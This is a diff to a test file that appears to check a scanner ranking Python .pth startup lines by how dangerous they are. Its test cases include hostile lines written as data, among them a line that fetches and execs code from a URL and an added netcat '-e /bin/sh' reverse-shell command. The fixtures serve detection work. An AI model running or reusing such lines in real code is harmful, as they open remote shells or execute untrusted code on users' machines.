@@ -161,10 +161,13 @@ def test_pth_that_site_never_reads_is_ignored(path: str) -> None:
         (b"import urllib.request as u; exec(u.urlopen('https://x.invalid').read())", Severity.CRITICAL),
         (b"import subprocess; subprocess.run(['id'])", Severity.HIGH),
         (b"import socket; socket.create_connection(('127.0.0.1', 9))", Severity.HIGH),
-        (b"import os; exec(os.environ['X'])", Severity.HIGH),
+        (b"import os; exec(os.environ['X'])", Severity.MEDIUM),
+        (b"import os; exec(os.environ.get('X', 'import subprocess; subprocess.run([\"id\"])'))", Severity.HIGH),
         (b"import sys; exec(sys.argv[0])", Severity.HIGH),
         (b"import codecs; print(codecs.decode('vzcbeg bf', 'rot13'))", Severity.HIGH),
         (b"import pkg_boot", Severity.MEDIUM),
+        (b"import sys; exec('async def f(): pass\\nimport asyncio')", Severity.MEDIUM),
+        (b"import os; os.system('nc -e /bin/sh 127.0.0.1 9')", Severity.CRITICAL),
     ],
 )
 def test_severity_rises_with_what_the_line_does(line: bytes, severity: Severity) -> None:
